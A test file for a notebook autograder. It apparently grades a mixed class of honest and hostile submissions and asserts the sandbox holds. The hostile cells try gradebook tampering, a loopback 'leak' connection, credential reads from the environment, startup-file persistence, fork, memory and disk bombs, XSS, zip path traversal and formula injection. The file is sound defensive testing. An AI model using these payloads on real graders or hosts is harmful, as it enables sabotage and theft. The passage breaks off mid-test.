"""End to end: `course grade` with the real nbgrader, a real SQLite gradebook, in a temporary course.

Each assignment is graded once for a whole class of submissions (the per-run overhead is paid
once per assignment); the tests then read grades.csv, the gradebook and the feedback.  Bad cases
sit in the same class as the good ones, so "graded without harming any other student" is checked
by the good students' full marks in the same run.

Slow by nature (every submission starts a kernel and imports torch): about 5-8 minutes on the
2-core machine, most of it assignment 2's class.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from textwrap import dedent

import nbformat
import pytest
import torch

from conftest import import_benchmark
from course_pkg.grading import main as grade_main
from course_pkg.pretrained import info as pretrained_info

REPO = Path(__file__).resolve().parents[1]
pytestmark = [pytest.mark.slow, pytest.mark.timeout(1500)]
CELL_TIMEOUT = 15  # seconds per cell (the course default is 60; the loop case waits this long)


# --------------------------------------------------------------------------------------------
# Building submissions
# --------------------------------------------------------------------------------------------
def _read(path: Path) -> nbformat.NotebookNode:
    return nbformat.read(str(path), as_version=4)


def released(assignment: str) -> nbformat.NotebookNode:
    return _read(REPO / "assignments" / assignment / f"{assignment}.ipynb")


def solved(assignment: str) -> nbformat.NotebookNode:
    """The student version with every solution cell filled in from the instructor notebook:
    what a student who solved everything hands in."""
    source = {c.metadata["nbgrader"]["grade_id"]: c.source
              for c in _read(REPO / "solutions" / assignment / f"{assignment}.ipynb").cells
              if c.metadata.get("nbgrader", {}).get("solution")}
    nb = released(assignment)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in source:
            cell.source = source[gid]
    return nb


def hidden_lines(assignment: str) -> list[str]:
    """The substantial lines of the instructor notebook's hidden tests."""
    lines = []
    for c in _read(REPO / "solutions" / assignment / f"{assignment}.ipynb").cells:
        if "### BEGIN HIDDEN TESTS" in c.source:
            region = c.source.split("### BEGIN HIDDEN TESTS", 1)[1].split("### END HIDDEN TESTS", 1)[0]
            lines += [line.strip() for line in region.splitlines() if len(line.strip()) > 15]
    assert lines
    return lines


def assert_no_hidden_tests(html_text: str, assignment: str) -> None:
    import html

    text = html.unescape(html_text)
    assert "HIDDEN TESTS" not in text
    leaked = [line for line in hidden_lines(assignment) if line in text]
    assert not leaked, f"hidden test lines in the feedback: {leaked[:3]}"


def cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def as_colab(nb: nbformat.NotebookNode) -> str:
    """Save like Colab does: nbformat 4.0 (no cell ids), Colab metadata everywhere."""
    data = json.loads(nbformat.writes(nb))
    data["nbformat_minor"] = 0
    data["metadata"] = {"colab": {"provenance": [], "name": "Copy of notebook.ipynb"},
                        "kernelspec": {"name": "python3", "display_name": "Python 3"},
                        "language_info": {"name": "python"}, "accelerator": "GPU"}
    for i, c in enumerate(data["cells"]):
        c.pop("id", None)
        c["metadata"]["id"] = f"colabCell{i:04d}"
        if c["cell_type"] == "code":
            c["metadata"]["colab"] = {"base_uri": "https://localhost:8080/"}
            c["metadata"]["outputId"] = f"out{i:04d}"
    return json.dumps(data, indent=2)


def write(folder: Path, name: str, content: str | bytes | nbformat.NotebookNode) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    if isinstance(content, nbformat.NotebookNode):
        content = nbformat.writes(content)
    (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())


# --------------------------------------------------------------------------------------------
# A temporary course and one grading run per assignment
# --------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("course")
    shutil.copy(REPO / "nbgrader_config.py", root)
    shutil.copytree(REPO / "solutions", root / "solutions")
    shutil.copytree(REPO / "assignments", root / "assignments")
    return root


class Graded:
    def __init__(self, course: Path, assignment: str, code: int):
        self.course, self.assignment, self.code = course, assignment, code
        self.report = course / ".nbgrader" / "reports" / assignment
        with (self.report / "grades.csv").open() as fh:
            self.rows = {r["student"]: r for r in csv.DictReader(fh)}

    def score(self, student: str, grade_id: str | None = None) -> float | None:
        row = self.rows[student]
        value = row[grade_id] if grade_id else row["score"]
        return float(value) if value != "" else None

    def cells(self) -> list[str]:
        with (self.report / "grades.csv").open() as fh:
            header = next(csv.reader(fh))
        return header[header.index("log") + 1:]

    def autograded(self, student: str) -> nbformat.NotebookNode:
        return _read(self.course / ".nbgrader" / "autograded" / student / self.assignment / f"{self.assignment}.ipynb")

    def output_text(self, student: str, grade_id: str) -> str:
        parts = []
        for out in cell(self.autograded(student), grade_id).outputs:
            parts += out.get("traceback", []) + [out.get("text", ""), out.get("evalue", "")]
        return "\n".join(parts)

    def last_output_text(self, student: str) -> str:
        """What the notebook's last cell printed (an ungraded cell a student added)."""
        out = self.autograded(student).cells[-1].outputs
        return "\n".join(part for o in out
                         for part in [*o.get("traceback", []), o.get("text", ""), o.get("evalue", "")])

    def feedback(self, student: str) -> str:
        path = self.course / ".nbgrader" / "feedback" / student / self.assignment / f"{self.assignment}.html"
        return path.read_text()


def run_grade(course: Path, assignment: str, submissions: Path, *extra: str,
              cell_timeout: int = CELL_TIMEOUT) -> Graded:
    code = grade_main([assignment, "--course-dir", str(course), "--submissions", str(submissions),
                       "--cell-timeout", str(cell_timeout), *extra])
    return Graded(course, assignment, code)


# --------------------------------------------------------------------------------------------
# Assignment 2: the class with most of the bad cases
# --------------------------------------------------------------------------------------------
A2 = "02_inception_module"


def attack(nb: nbformat.NotebookNode, grade_id: str, code: str) -> nbformat.NotebookNode:
    """Append ``code`` to a solution cell (what a hostile student hands in)."""
    c = cell(nb, grade_id)
    c.source += "\n" + dedent(code)
    return nb


def wrong_solution() -> nbformat.NotebookNode:
    """The honest wrong solution: torchvision's 3x3 kernel in the 5x5 branch."""
    nb = solved(A2)
    c = cell(nb, "inception_module")
    assert "BasicConv2d(ch5x5red, ch5x5, 5, padding=2)" in c.source
    c.source = c.source.replace("BasicConv2d(ch5x5red, ch5x5, 5, padding=2)",
                                "BasicConv2d(ch5x5red, ch5x5, 3, padding=1)")
    return nb


def tree_hash(root: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    """sha256 of every file under ``root`` (except the folders in ``skip``)."""
    import hashlib

    out = {}
    for p in sorted(root.rglob("*")):
        rel = p.relative_to(root).as_posix()
        if p.is_file() and not any(rel == s or rel.startswith(s + "/") for s in skip):
            out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


class Hostile:
    """What the hostile class needs to check afterwards."""

    def __init__(self, graded: Graded, marker: Path, before: dict[str, str], after: dict[str, str],
                 leftovers: list[str], listener_hits: list[bytes], secret: str, watch):
        self.graded, self.marker, self.before, self.after = graded, marker, before, after
        self.leftovers, self.listener_hits, self.secret = leftovers, listener_hits, secret
        self.watch = watch  # the host's memory and disk while the class was graded (grade_hostile.HostWatch)


def write_hostile_class(subs: Path, course: Path, marker: Path, port: int) -> None:
    """Assignment 2's hostile class, one folder per student in ``subs``: honest students, the honest
    wrong solution, attacks on the others, the gradebook, the course and the grader (anything they
    manage to write lands in ``marker``; ``port`` is a listener on the host's loopback), crashes,
    hangs, links, FIFOs, look-alike names, HTML, a large file, handover bombs and attacks on the
    per-student caps.  Also graded, and measured, by ``benchmarks/grade_hostile.py``."""
    work = course / ".nbgrader"
    gradebook = work / "gradebook.db"
    # honest students: the solution (handed in as "Copy of ..."), a bystander, a victim
    write(subs / "solver", f"Copy of {A2}.ipynb", solved(A2))
    write(subs / "bystander", f"{A2}.ipynb", solved(A2))
    write(subs / "victim", f"{A2}.ipynb", solved(A2))
    write(subs / "blank", f"{A2}.ipynb", released(A2))
    write(subs / "tv3x3", f"{A2}.ipynb", wrong_solution())
    # attacks on other students, the gradebook, the course and the grader; each tried, errors ignored
    write(subs / "vandal", f"{A2}.ipynb", attack(wrong_solution(), "naive_module", f"""
        import os, sqlite3, subprocess, sys, socket
        def _try(f):
            try:
                f()
            except BaseException as e:
                print("blocked:", type(e).__name__, str(e)[:80])
        _try(lambda: sqlite3.connect({str(gradebook)!r}).executescript("UPDATE grade SET auto_score = 0;"))
        _try(lambda: open({str(work / "submitted" / "victim" / A2 / (A2 + ".ipynb"))!r}, "w").write("{{}}"))
        _try(lambda: os.remove({str(gradebook)!r}))
        _try(lambda: open({str(course / "nbgrader_config.py")!r}, "a").write(
            "\\nopen({str(marker / "config")!r}, 'w')\\n"))
        _try(lambda: open({str(course / "solutions" / A2 / (A2 + ".ipynb"))!r}).read())
        _try(lambda: open({str(marker / "written")!r}, "w").write("x"))
        _try(lambda: os.makedirs(os.path.expanduser("~/.ipython/profile_default/startup"), exist_ok=True))
        _try(lambda: open(os.path.expanduser("~/.ipython/profile_default/startup/00-x.py"), "w").write(
            "open({str(marker / "startup")!r}, 'w')"))
        _try(lambda: open(
            {str(Path.home() / ".ipython" / "profile_default" / "startup" / "00-hostile.py")!r}, "w").write(
            "open({str(marker / "startup-home")!r}, 'w')"))
        _try(lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak"))
        print("env:", os.environ.get("COURSE_INSTRUCTOR_TOKEN"), os.environ.get("COURSE_DATA"))
        # a detached process that waits for the grades, then tries to rewrite them
        _code = "import time, sqlite3\\ntime.sleep(8)\\nopen({str(marker / "late")!r}, 'w')\\n"
        _try(lambda: subprocess.Popen([sys.executable, "-c", _code, "course-hostile-sleeper"], start_new_session=True,
                                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        _try(lambda: bytearray(64 << 30))
    """))
    # tricks inside its own kernel to pass checks it fails
    write(subs / "forger", f"{A2}.ipynb", attack(wrong_solution(), "naive_module", """
        from course_pkg import checks as _real
        _real.require = lambda *a, **k: None
        _real.fail_on = lambda *a, **k: None
        _real.inception_findings = lambda *a, **k: []
        class _Anything:
            def __getattr__(self, name):
                return lambda *a, **k: []
        checks = _Anything()
        ip = get_ipython()
        ip.set_custom_exc((BaseException,), lambda *a, **k: None)
        ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
        import sys
        sys.excepthook = lambda *a: None
    """))
    # a blank notebook that runs the instructor's solutions, or a classmate's notebook
    write(subs / "copier", f"{A2}.ipynb", attack(released(A2), "naive_module", f"""
        import json
        for _path in ({str(course / "solutions" / A2 / (A2 + ".ipynb"))!r},
                      {str(work / "submitted" / "bystander" / A2 / (A2 + ".ipynb"))!r}):
            try:
                for _c in json.load(open(_path))["cells"]:
                    if _c["cell_type"] == "code":
                        exec("".join(_c["source"]), globals())
            except BaseException as e:
                print("blocked:", type(e).__name__)
    """))
    # the course's own class instead of one's own: flagged, not failed
    nb = solved(A2)
    cell(nb, "inception_module").source = "from course_pkg.models.inception import Inception\n"
    write(subs / "borrower", f"{A2}.ipynb", nb)
    # crashes and hangs: each costs the cells it affects only
    write(subs / "crasher", f"{A2}.ipynb", attack(solved(A2), "answers_3a", "import os\nos._exit(1)"))
    write(subs / "segfault", f"{A2}.ipynb", attack(solved(A2), "channel_source", "import ctypes\nctypes.string_at(0)"))
    write(subs / "looper", f"{A2}.ipynb", attack(solved(A2), "answers_3a", """
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            pass
    """))
    nb = solved(A2)
    cell(nb, "naive_module").source = cell(nb, "naive_module").source.replace(
        "return torch.cat(", "while True:\n            pass\n        return torch.cat(")
    write(subs / "slowforward", f"{A2}.ipynb", nb)
    nb = solved(A2)
    cell(nb, "test_channel_source").metadata["nbgrader"]["grade"] = False
    attack(nb, "branch_costs", """
        import sys
        print("x" * 2_000_000)
        print("own stderr line", file=sys.stderr)
    """)
    attack(nb, "channel_source", """
        def _deep(n):
            return _deep(n - 1) if n else 1 / 0
        _deep(30)
    """)
    write(subs / "flipped", f"{A2}.ipynb", nb)
    # Colab-saved, renamed " (1)", a deleted test cell and a skip-execution tag, each guarding a
    # wrong answer; a zip; garbage
    nb = solved(A2)
    c = cell(nb, "answers_3a")
    c.source = c.source.replace('"branch1x1_params": 1 * 1 * 192 * 64 + 64', '"branch1x1_params": 1 * 1 * 192 * 64')
    cell(nb, "channel_source").source = ('channel_source = {0: "branch1x1", 100: "branch3x3", '
                                         '200: "branch_pool", 250: "branch5x5"}')
    cell(nb, "test_channel_source").metadata["tags"] = ["skip-execution"]
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "test_answers_3a"]
    write(subs / "colab", f"{A2} (1).ipynb", as_colab(nb))
    import zipfile

    with zipfile.ZipFile(subs / "zipped.zip", "w") as zf:
        zf.writestr(f"zipped/{A2}.ipynb", nbformat.writes(solved(A2)))
    with zipfile.ZipFile(subs / "escaper.zip", "w") as zf:
        zf.writestr(f"../../escaped-{A2}.ipynb", nbformat.writes(solved(A2)))
    write(subs / "garbage", f"{A2}.ipynb", b"\x00\x01 this is not json")

    # what must not take the grader down, mix students up or run in the instructor's browser:
    # links to /dev/zero and to the solutions and a FIFO; names that used to share an id; HTML,
    # scripts and a formula the student wrote; a large file that must be stored once
    write(subs / "linker", f"{A2}.ipynb", solved(A2))
    os.symlink("/dev/zero", subs / "linker" / "zeros.bin")
    os.symlink(course / "solutions", subs / "linker" / "answers")
    os.mkfifo(subs / "linker" / "pipe")
    write(subs / "Zo", f"{A2}.ipynb", released(A2))
    write(subs / "Zoë", f"{A2}.ipynb", solved(A2))
    write(subs / "张伟", f"{A2}.ipynb", released(A2))
    write(subs / "王芳", f"{A2}.ipynb", solved(A2))
    nb = solved(A2)
    nb.cells.append(nbformat.v4.new_markdown_cell(
        '<script>alert("xss-md")</script> <img src=x onerror=alert("xss-img")> [click](javascript:alert("xss-link"))'))
    nb.cells.append(nbformat.v4.new_code_cell(
        "from IPython.display import HTML, display\n"
        "display(HTML('<b onmouseover=alert(1)>bold</b><script>alert(\"xss-out\")</script>"
        "<iframe src=https://example.org></iframe>'))"))
    write(subs / "scripter", f"{A2}.ipynb", nb)
    write(subs, '=HYPERLINK("example.org","open").zip', b"not a zip file")
    write(subs / "bigfile", f"{A2}.ipynb", solved(A2))
    write(subs / "bigfile", "weights.bin", os.urandom(2 << 20))
    # handover bombs: after the last test cell, every file the test cells handed over is replaced by
    # a few hundred bytes that unpack to 2**40 values, or a tensor of 10**9 elements stored as 4 bytes
    nb = solved(A2)
    nb.cells.append(nbformat.v4.new_code_cell(dedent("""
        import os, torch
        _folder = os.environ["COURSE_HANDOVER"]
        _nested = [0]
        for _ in range(40):
            _nested = [_nested, _nested]
        _names = sorted(os.listdir(_folder))
        for _i, _name in enumerate(_names):
            torch.save({"answers": _nested} if _i % 2 else {"x": torch.zeros(1).expand(10 ** 9)},
                       os.path.join(_folder, _name))
        print("replaced", len(_names), "handed-over files")
    """)))
    write(subs / "bomber", f"{A2}.ipynb", nb)
    # the per-student caps, each pushed past its limit from a cell after the last test of an otherwise
    # honest notebook (so the time an attack takes can cost no test cell)
    for name, code in CAP_ATTACKS.items():
        nb = solved(A2)
        nb.cells.append(nbformat.v4.new_code_cell(dedent(code)))
        write(subs / name, f"{A2}.ipynb", nb)


# Each prints what the cap let it do, cleans up, and lets the notebook go on (a cap that holds costs
# the student nothing here; one that does not would take the host's memory, disk or process table).
CAP_ATTACKS = {
    # memory: three processes of 0.36 x the cap each (the cap is RLIMIT_AS, all processes together)
    "hog": """
        import os, resource, time
        _share = int(resource.getrlimit(resource.RLIMIT_AS)[0] * 0.36)
        _kids = []
        for _ in range(3):
            _pid = os.fork()
            if _pid == 0:  # the child must end here whatever happens (else it runs on as a second kernel)
                _code = 1
                try:
                    _block = b"x" * _share
                    time.sleep(1)
                    _code = 0
                finally:
                    os._exit(_code)
            _kids.append(_pid)
        _survived = sum(os.WIFEXITED(_st) and os.WEXITSTATUS(_st) == 0
                        for _st in (os.waitpid(_p, 0)[1] for _p in _kids))
        print("survived", _survived, "of 3 processes of", _share >> 20, "MiB")
    """,
    # disk: the student's copy, /tmp and /dev/shm filled until the file system says no
    "filler": """
        import os
        for _folder in (".", "/tmp", "/dev/shm"):
            _written, _path = 0, os.path.join(_folder, "fill.bin")
            try:
                with open(_path, "wb") as _fh:
                    while _written < 4096:
                        _fh.write(b"x" * (1 << 20))
                        _fh.flush()
                        _written += 1
            except OSError as _err:
                print("refused", _folder, _err.errno)
            print("written", _folder, _written, "MiB")
            os.remove(_path)
    """,
    # processes: 400 children that sleep (each one the cap lets start)
    "forker": """
        import os, time
        _kids = []
        for _ in range(400):
            try:
                _pid = os.fork()
            except OSError as _err:
                print("fork refused", _err.errno)
                break
            if _pid == 0:
                time.sleep(2)
                os._exit(0)
            _kids.append(_pid)
        for _p in _kids:
            os.waitpid(_p, 0)
        print("children", len(_kids))
    """,
}


@pytest.fixture(scope="module")
def graded2(course, tmp_path_factory) -> Hostile:
    """Assignment 2 graded once for a whole class: honest students, the honest wrong solution,
    the attacks that nbgrader alone lets through (its FAQ: it does not sandbox submissions) and a
    few more, and the crash cases."""
    import socket
    import threading
    import time

    import psutil

    subs = tmp_path_factory.mktemp("subs2")
    marker = tmp_path_factory.mktemp("marker")  # anything appearing here came out of a sandbox
    secret = "instructor-secret-7f3a"
    os.environ["COURSE_INSTRUCTOR_TOKEN"] = secret
    # a listener on the host's loopback: the sandbox has a network of its own
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    hits: list[bytes] = []
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                hits.append(conn.recv(100))
                conn.close()
            except OSError:
                continue

    threading.Thread(target=listen, daemon=True).start()

    write_hostile_class(subs, course, marker, port)

    skip = (".nbgrader",)
    before = tree_hash(course, skip)
    before.update({f"subs/{k}": v for k, v in tree_hash(subs).items()})
    with import_benchmark("grade_hostile").HostWatch(course) as watch:
        watch.pid = os.getpid()  # the grader runs in this process here
        graded = run_grade(course, A2, subs, "--jobs", "2")
    after = tree_hash(course, skip)
    after.update({f"subs/{k}": v for k, v in tree_hash(subs).items()})
    leftovers = []
    for proc in psutil.process_iter(["cmdline"]):
        if "course-hostile-sleeper" in " ".join(proc.info["cmdline"] or []):
            leftovers.append(proc.pid)
    time.sleep(10)  # the detached process would have written its marker by now
    stop.set()
    listener.close()
    return Hostile(graded, marker, before, after, leftovers, hits, secret, watch)


def test_solution_scores_full_marks(graded2):
    g = graded2.graded
    assert g.code == 0
    for student in ("solver", "bystander", "victim", "zipped"):
        row = g.rows[student]
        assert row["status"] == "graded", row
        assert float(row["score"]) == float(row["max_score"]) > 0, row


def test_attacks_on_the_caps_are_held_and_cost_the_student_nothing(graded2):
    """Memory, disk and processes pushed past the per-student caps from an honest notebook: each
    attack gets no further than its cap, and the notebook goes on to the solver's score."""
    g = graded2.graded
    limits = import_benchmark("grade_hostile").caps(8)  # the course's nbgrader_config.py: 8 GiB
    for student in CAP_ATTACKS:
        assert g.rows[student]["status"] == "graded", g.rows[student]
        assert g.score(student) == g.score("solver"), g.rows[student]
    # touching more than the cap's 8 GiB takes a 2-core machine 7-11 s even idle (measured): under the
    # per-cell limit the cell may be stopped first; either way no more than two of the three lived,
    # and the host's memory is checked below
    hog = g.last_output_text("hog")
    survived = re.search(r"survived (\d) of 3", hog)
    assert (int(survived.group(1)) <= 2) if survived else "limit per cell" in hog, hog
    filler = g.last_output_text("filler")
    for folder, cap in ((".", limits["disk_bytes"]), ("/tmp", limits["tmp_bytes"]), ("/dev/shm", limits["tmp_bytes"])):
        assert f"refused {folder} " in filler, filler
        assert int(re.search(rf"written {re.escape(folder)} (\d+) MiB", filler).group(1)) <= cap >> 20, filler
    forker = g.last_output_text("forker")
    assert "fork refused 11" in forker and int(re.search(r"children (\d+)", forker).group(1)) < 256, forker


def test_the_host_keeps_its_memory_and_disk(graded2):
    """While the class was graded (two students at a time) the host's available memory fell by no more
    than two students' caps and the grader's own peak, and its disk by no more than the grader's records
    and what two students' sandboxes may send out."""
    bench = import_benchmark("grade_hostile")
    limits, watch = bench.caps(8), graded2.watch
    assert watch.memory_drop <= 2 * limits["per_student_bytes"] + watch.peak_rss, vars(watch)
    records = bench.folder_bytes(graded2.graded.course / ".nbgrader")
    assert watch.disk_drop <= bench.disk_bound(2, limits, records), vars(watch)


def test_handover_bombs_are_refused_and_cost_only_their_cells(graded2):
    """Handed-over files replaced by data that unpacks to far more than it weighs: the grader refuses
    each with the reason (its own memory and time stay bounded: see the host's test above), the
    cells they answered score nothing, and the instructor sees a flag."""
    g = graded2.graded
    row = g.rows["bomber"]
    assert row["status"] == "graded", row
    lost = [c for c in g.cells() if g.score("bomber", c) != g.score("solver", c)]
    assert len(lost) >= 4, row
    reasons = {c: g.output_text("bomber", c) for c in lost}
    for c, text in reasons.items():
        assert g.score("bomber", c) == 0 and f"{c}: refused:" in text, (c, text)
    assert any("too many values" in t for t in reasons.values()), reasons
    assert any("larger than the handover writes" in t for t in reasons.values()), reasons
    assert "handed-over data refused" in row["flags"], row


def test_unmodified_student_version_scores_zero_everywhere(graded2):
    g = graded2.graded
    cells = g.cells()
    assert len(cells) >= 8
    assert g.rows["blank"]["status"] == "graded"
    assert [g.score("blank", c) for c in cells] == [0.0] * len(cells)


def test_3x3_kernel_in_5x5_branch_loses_exactly_those_checks(graded2):
    g = graded2.graded
    cells = g.cells()
    lost = {c for c in cells if g.score("tv3x3", c) != g.score("solver", c)}
    assert lost == {"test_branch5x5", "test_module_totals"}
    assert all(g.score("tv3x3", c) == 0 for c in lost)
    text = g.output_text("tv3x3", "test_branch5x5")
    assert "branch5x5" in text and "3x3 kernel" in text and "torchvision" in text
    for module in ("3a", "3b", "4a", "4b", "4c", "4d", "4e"):
        assert f"inception {module}, branch5x5" in text
    assert "Traceback" not in text
    assert "3x3 kernel" in g.feedback("tv3x3")


def test_cheats_score_no_more_than_the_honest_wrong_solution(graded2):
    g = graded2.graded
    honest_wrong = g.score("tv3x3")
    assert honest_wrong < g.score("solver")
    for cheat in ("vandal", "forger"):
        assert g.rows[cheat]["status"] == "graded", g.rows[cheat]
        assert g.score(cheat) <= honest_wrong, (cheat, g.rows[cheat])
        assert g.score(cheat, "test_branch5x5") == 0
    # running the solutions or a classmate's notebook: nothing to read, a blank notebook's score
    assert g.score("copier") == 0, g.rows["copier"]
    assert "blocked" in g.output_text("copier", "naive_module")


def test_bystander_victim_and_gradebook_are_untouched(graded2):
    g = graded2.graded
    for student in ("bystander", "victim"):
        assert [g.score(student, c) for c in g.cells()] == [g.score("solver", c) for c in g.cells()]
        assert "BasicConv2d(ch5x5red, ch5x5, 5, padding=2)" in cell(g.autograded(student), "inception_module").source
    assert (g.course / ".nbgrader" / "gradebook.db").is_file()
    assert sorted((g.course / ".nbgrader" / "backups").glob("gradebook-*.db"))
    # no file of the course, the submissions or the instructor changed
    assert graded2.after == graded2.before
    assert not list(graded2.marker.iterdir()), list(graded2.marker.iterdir())
    assert not (Path.home() / ".ipython" / "profile_default" / "startup" / "00-hostile.py").exists()
    assert graded2.listener_hits == []
    vandal = g.output_text("vandal", "naive_module")
    assert "blocked" in vandal and graded2.secret not in vandal
    assert "env: None None" in vandal


def test_nothing_of_a_student_runs_after_its_turn(graded2):
    assert graded2.leftovers == []
    assert not (graded2.marker / "late").exists()


def test_borrowing_the_reference_class_earns_nothing_and_is_flagged(graded2):
    """The reference class is hidden from the sandbox, so importing it fails the parts it
    would have answered (and only those); the import is still flagged for the instructor."""
    g = graded2.graded
    row = g.rows["borrower"]
    assert row["status"] == "graded", row
    module_cells = {"test_inception_3a_shape", "test_branch1x1", "test_branch3x3", "test_branch5x5",
                    "test_branch_pool", "test_module_totals", "test_shapes_and_order"}
    for c in g.cells():
        assert g.score("borrower", c) == (0 if c in module_cells else g.score("solver", c)), c
    assert "hidden while the notebook is graded" in g.output_text("borrower", "test_branch1x1")
    assert "Inception" in row["flags"] and "course" in row["flags"], row
    summary = (g.report / "summary.txt").read_text()
    assert "flag borrower" in summary
    # the honest solution: no flag but the classmates who handed in the same notebook
    flags = g.rows["solver"]["flags"]
    assert "course's" not in flags and "shipped" not in flags, flags
    assert "near-identical to that of bystander" in flags or "bystander (" in flags, flags


def test_crashes_and_hangs_cost_only_their_cells(graded2):
    g = graded2.graded
    full = {c: g.score("solver", c) for c in g.cells()}
    for student, lost in (("crasher", {"test_answers_3a"}), ("looper", {"test_answers_3a"}),
                          ("segfault", {"test_channel_source"}), ("slowforward", {"test_naive_module"})):
        row = g.rows[student]
        assert row["status"] == "graded", row
        got = {c: g.score(student, c) for c in g.cells()}
        assert {c for c in got if got[c] != full[c]} == lost, (student, got)
        assert row["flags"], row  # the crash or time-out is reported to the instructor
    assert "kernel died" in g.output_text("crasher", "answers_3a")
    assert "limit per cell" in g.output_text("looper", "answers_3a")
    # the outer limit follows from the number of test cells (and did not cut anyone short here)
    summary = (g.report / "summary.txt").read_text()
    assert "outer" not in summary


def test_flipped_grade_flag_is_repaired_output_capped_stderr_shown(graded2):
    g = graded2.graded
    row = g.rows["flipped"]
    assert row["status"] == "graded" and float(row["score"]) == float(row["max_score"]), row
    text = g.output_text("flipped", "branch_costs")
    assert "own stderr line" in text or "output cut" in text
    assert len(text) < 30_000 and "output cut at" in text
    summary = (g.report / "summary.txt").read_text()
    assert "restored the grading metadata of test_channel_source" in summary
    # the student's own traceback, in full (30 frames of _deep), not cut to its first and last lines
    own = g.output_text("flipped", "channel_source")
    assert "ZeroDivisionError" in own and own.count("_deep") >= 30, own[:500]


def test_colab_renamed_deleted_and_skip_tagged(graded2):
    g = graded2.graded
    row = g.rows["colab"]
    assert row["status"] == "graded", row
    # the deleted test cell came back and ran: the missing biases cost its points
    assert g.score("colab", "test_answers_3a") == 0
    restored = cell(g.autograded("colab"), "test_answers_3a")
    assert "was missing from the submission" in restored.source
    assert "biases" in g.output_text("colab", "test_answers_3a")
    # the skip-execution tag changed nothing: the test ran and caught the swapped branches
    assert g.score("colab", "test_channel_source") == 0
    assert "channel 200" in g.output_text("colab", "test_channel_source")
    others = [c for c in g.cells() if c not in ("test_answers_3a", "test_channel_source")]
    assert [g.score("colab", c) for c in others] == [g.score("solver", c) for c in others]
    assert any("renamed" in line for line in (g.report / "summary.txt").read_text().splitlines()
               if "colab" in line)


def test_garbage_and_unsafe_zip_are_reported_not_graded(graded2):
    g = graded2.graded
    assert g.rows["garbage"]["status"] == "failed" and "not valid JSON" in g.rows["garbage"]["reason"]
    assert g.rows["escaper"]["status"] == "failed" and "unsafe path" in g.rows["escaper"]["reason"]
    assert not list(g.course.parent.glob("escaped-*"))


def test_reports_and_feedback_without_hidden_tests(graded2):
    g = graded2.graded
    assert (g.report / "grades.csv").is_file()
    png = (g.report / "scores.png").read_bytes()
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    summary = (g.report / "summary.txt").read_text()
    assert "FAILED garbage" in summary and "logs:" in summary
    for student in ("solver", "blank", "tv3x3", "colab", "looper", "vandal", "forger"):
        assert_no_hidden_tests(g.feedback(student), A2)
    for student in ("solver", "blank", "tv3x3", "colab", "looper"):  # (the forger's own code names them)
        html = g.feedback(student)
        for secret in ("HIDDEN TESTS", "inception_findings", "diagnose_answers", "fail_on"):
            assert secret not in html, (student, secret)
    assert Path(g.rows["solver"]["log"]).is_file()
    # the per-submission budget (about 10 s each on an idle 2-core machine; generous for busy CI)
    assert float(g.rows["solver"]["seconds"]) < 120


def test_links_and_fifos_are_left_out_not_followed(graded2):
    g = graded2.graded
    row = g.rows["linker"]
    assert row["status"] == "graded" and float(row["score"]) == float(row["max_score"]), row
    note = next(line for line in (g.report / "summary.txt").read_text().splitlines() if "note linker" in line)
    assert "left out" in note and all(name in note for name in ("zeros.bin", "answers", "pipe")), note
    submitted = g.course / ".nbgrader" / "submitted" / "linker" / A2
    assert sorted(p.name for p in submitted.iterdir()) == [f"{A2}.ipynb"]


def test_lookalike_names_get_ids_of_their_own(graded2):
    g = graded2.graded
    by_name = {row["submitted_as"]: row for row in g.rows.values()}
    assert by_name["Zo"]["student"] == "Zo" and float(by_name["Zo"]["score"]) == 0
    assert by_name["Zoë"]["student"].startswith("Zoe-")
    assert float(by_name["Zoë"]["score"]) == float(by_name["Zoë"]["max_score"]) > 0
    assert by_name["张伟"]["student"] != by_name["王芳"]["student"]
    assert all(by_name[n]["student"].startswith("student-") for n in ("张伟", "王芳"))
    assert float(by_name["张伟"]["score"]) == 0
    assert float(by_name["王芳"]["score"]) == float(by_name["王芳"]["max_score"])


def test_student_html_and_formulas_are_inert(graded2):
    g = graded2.graded
    row = g.rows["scripter"]
    assert row["status"] == "graded" and float(row["score"]) == float(row["max_score"]), row
    html = g.feedback("scripter")
    assert "bold" in html and "xss-md" in html  # shown, as text
    for live in (r"<script>\s*alert", r"<img[^>]*onerror", r"<b[^>]*onmouseover", r"<iframe", r"href=.javascript:"):
        assert not re.search(live, html, re.I), live
    # a file name the student chose, in the reason column: text, never a formula
    formula = next(r for r in g.rows.values() if "HYPERLINK" in r["submitted_as"])
    assert formula["status"] == "failed" and formula["reason"].startswith("'=HYPERLINK"), formula
    assert formula["submitted_as"].startswith("'=") and not formula["student"].startswith(("=", "'"))


def test_large_files_are_stored_once(graded2):
    g = graded2.graded
    assert g.rows["bigfile"]["status"] == "graded"
    work = g.course / ".nbgrader"
    submitted, autograded = (work / step / "bigfile" / A2 / "weights.bin" for step in ("submitted", "autograded"))
    assert os.path.samefile(submitted, autograded)
    assert (work / "feedback" / "bigfile" / A2 / f"{A2}.html").is_file()
    assert not (work / "feedback" / "bigfile" / A2 / "weights.bin").exists()


def test_rerun_grades_only_new_or_changed(course, graded2, tmp_path):
    subs = tmp_path / "subs"
    write(subs / "solver", f"{A2}.ipynb", solved(A2))
    write(subs / "tv3x3", f"{A2}.ipynb", solved(A2))  # tv3x3 fixed the bug
